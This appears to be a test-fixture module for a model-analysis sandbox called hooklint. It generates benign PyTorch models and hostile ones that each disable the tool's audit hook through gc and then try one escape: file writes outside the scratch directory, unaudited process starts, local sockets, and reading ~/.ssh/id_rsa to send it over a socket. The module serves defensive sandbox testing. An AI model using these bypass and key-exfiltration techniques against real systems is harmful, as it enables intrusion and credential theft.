"""Model files for the sandbox tests: good ones, and hostile ones that try one
escape each.

A hostile file first switches hooklint's audit hook off (it finds the
``Guard`` through ``gc``, as an attacker would), so what stops the attempt is
the kernel, not the hook.  It tries the escape in two places:

* ``Reporter.__init__`` (the graph worker builds it): the outcome ends the
  constructor as ``RuntimeError: ESCAPE <name> in graph: blocked (...)``,
  which hooklint prints as the reason the class was not analysed -- proof
  that the attempt ran, and how it ended;
* ``Carrier.forward``: a model with a legacy backward hook, so that ``--diff
  --verify`` plans a proof and the proof worker runs its forward; there the
  forward raises ``ESCAPE <name> in proof: ...``, which the proof's verdict
  quotes.  In the graph worker the forward returns normally (the model is
  analysed, the fix is planned);
* the ``__main__`` block, which ``--diff --verify`` runs to prove the fix
  (hooklint.fix.program): it raises ``ESCAPE <name> in program: ...``, which
  the verdict quotes as the reason the program could not be used.

``ESCAPED`` in an outcome means the attempt did not raise.
"""

from __future__ import annotations

GOOD = {
    "good_conv.py": '''
        import torch
        import torch.nn as nn


        class GoodConv(nn.Module):
            def __init__(self):
                super().__init__()
                self.conv = nn.Conv2d(3, 4, 3, padding=1)
                self.head = nn.Linear(4, 2)
                self.conv.register_backward_hook(self.save)

            def save(self, module, grad_input, grad_output):
                self.seen = grad_output[0]

            def forward(self, x):
                return self.head(self.conv(x).mean((2, 3)))
    ''',
    "good_mean.py": '''
        import torch
        import torch.nn as nn


        class Mean(nn.Module):
            def forward(self, x):
                return x.sum(1, keepdim=True) / 4


        class GoodMean(nn.Module):
            def __init__(self):
                super().__init__()
                self.f1 = nn.Linear(4, 4)
                self.f2 = Mean()
                self.f2.register_backward_hook(self.show)

            def show(self, module, grad_input, grad_output):
                print(grad_input[0].shape)

            def forward(self, x):
                return self.f2(self.f1(x))
    ''',
}

PRELUDE = '''
import gc
import os
import socket
import sys
import threading
import time

import torch
import torch.nn as nn

CANARY = {canary!r}
TCP_PORT = {tcp_port}
UDP_PORT = {udp_port}
MARKER = {marker!r}
NAME = {name!r}


def _guard_off():
    for found in gc.get_objects():
        if type(found).__name__ == "Guard" and hasattr(found, "active"):
            found.active = False
            found._audit = lambda event, args: None


def _where():
    return "proof" if "verify_worker" in sys.argv[0] else "graph"


def _attempt():
    _guard_off()
    try:
        outcome = _escape()
    except BaseException as exc:
        return "blocked (" + type(exc).__name__ + ": " + str(exc).replace(chr(10), " ")[:80] + ")"
    return outcome or "ESCAPED"


class Reporter(nn.Module):
    def __init__(self):
        super().__init__()
        raise RuntimeError("ESCAPE " + NAME + " in " + _where() + ": " + _attempt())

    def forward(self, x):
        return x


class Carrier(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 2)
        self.fc.register_backward_hook(self.hook)

    def hook(self, module, grad_input, grad_output):
        return None

    def forward(self, x):
        outcome = _attempt()
        if _where() == "proof":
            raise RuntimeError("ESCAPE " + NAME + " in proof: " + outcome)
        return self.fc(x) / 4


if __name__ == "__main__":
    raise RuntimeError("ESCAPE " + NAME + " in program: " + _attempt())
'''

# name -> body of `_escape()` (returns None when it got through; raises when stopped)
ESCAPES = {
    "gc_guard_off": '''
        with open(os.path.join(CANARY, "gc_guard_off.txt"), "w") as handle:
            handle.write("escaped")
    ''',
    "rename_out_of_scratch": '''
        import tempfile
        inside = os.path.join(tempfile.gettempdir(), "inside.txt")
        with open(inside, "w") as handle:
            handle.write("escaped")
        os.rename(inside, os.path.join(CANARY, "renamed.txt"))
    ''',
    "move_out_of_scratch": '''
        import shutil
        import tempfile
        inside = os.path.join(tempfile.mkdtemp(), "inside.txt")
        with open(inside, "w") as handle:
            handle.write("escaped")
        shutil.move(inside, os.path.join(CANARY, "moved.txt"))
    ''',
    "sqlite_outside": '''
        import sqlite3
        connection = sqlite3.connect(os.path.join(CANARY, "escape.sqlite"))
        connection.execute("create table t (x)")
        connection.commit()
    ''',
    "mkfifo_outside": '''
        os.mkfifo(os.path.join(CANARY, "escape.fifo"))
    ''',
    "setxattr_outside": '''
        os.setxattr(os.path.join(CANARY, "existing.txt"), "user.hooklint", b"escaped")
    ''',
    "posixsubprocess_fork_exec": '''
        # the arguments subprocess would pass (taken from a dry call), then the
        # real fork_exec: a process start that raises no audit event
        import _posixsubprocess
        import subprocess
        captured = []
        real = _posixsubprocess.fork_exec

        def capture(*args):
            captured.append(args)
            raise ChildProcessError("captured")

        bound = getattr(subprocess, "_fork_exec", None)
        _posixsubprocess.fork_exec = capture
        if bound is not None:
            subprocess._fork_exec = capture
        try:
            subprocess.Popen(["/bin/sleep", "60", MARKER], start_new_session=True)
        except ChildProcessError:
            pass
        finally:
            _posixsubprocess.fork_exec = real
            if bound is not None:
                subprocess._fork_exec = bound
        real(*captured[0])
    ''',
    "os_fork": '''
        pid = os.fork()
        if pid == 0:
            os.setsid()
            os.execv("/bin/sleep", ["sleep", "60", MARKER])
    ''',
    "subprocess": '''
        import subprocess
        subprocess.Popen(["/bin/sleep", "60", MARKER], start_new_session=True)
    ''',
    "udp_sendmsg": '''
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendmsg([MARKER.encode()], [], 0, ("127.0.0.1", UDP_PORT))
    ''',
    "tcp_connect": '''
        socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2).sendall(MARKER.encode())
    ''',
    "retrying_thread": '''
        # keeps trying while hooklint's own code runs between steps (the audit
        # hook is inactive then); the attempt itself only starts it
        def retry():
            end = time.time() + 30
            while time.time() < end:
                try:
                    with open(os.path.join(CANARY, "thread.txt"), "w") as handle:
                        handle.write("escaped")
                except OSError:
                    pass
                try:
                    socket.create_connection(("127.0.0.1", TCP_PORT), timeout=0.2).sendall(b"thread " + MARKER.encode())
                except OSError:
                    pass
                time.sleep(0.005)

        threading.Thread(target=retry, daemon=True).start()
        time.sleep(0.2)
        if os.path.exists(os.path.join(CANARY, "thread.txt")):
            return None
        raise PermissionError("the retrying thread got nowhere yet")
    ''',
    "ssh_key": '''
        try:
            with open(os.path.expanduser("~/.ssh/id_rsa")) as handle:
                key = handle.read()
            read = "read"
        except OSError as exc:
            key, read = "unread " + MARKER, "read blocked (" + type(exc).__name__ + ")"
        # hooklint's own output is a channel too: the key must not be readable at all
        if "PRIVATE KEY" in key:
            return "ESCAPED (read the key: " + key[:60] + ")"
        try:
            socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2).sendall(key.encode())
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.sendto(key.encode(), ("127.0.0.1", UDP_PORT))
        except OSError as exc:
            raise PermissionError(read + ", send blocked (" + type(exc).__name__ + ")") from None
    ''',
}


def hostile_file(name: str, canary: str, tcp_port: int, udp_port: int, marker: str) -> str:
    import textwrap

    body = textwrap.indent(textwrap.dedent(ESCAPES[name]).strip("\n"), "    ")
    return (PRELUDE.format(canary=canary, tcp_port=tcp_port, udp_port=udp_port, marker=marker, name=name)
            + "\n\ndef _escape():\n" + body + "\n")


FAKE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nhooklint-test-fake-key-0123456789\n-----END OPENSSH PRIVATE KEY-----\n"
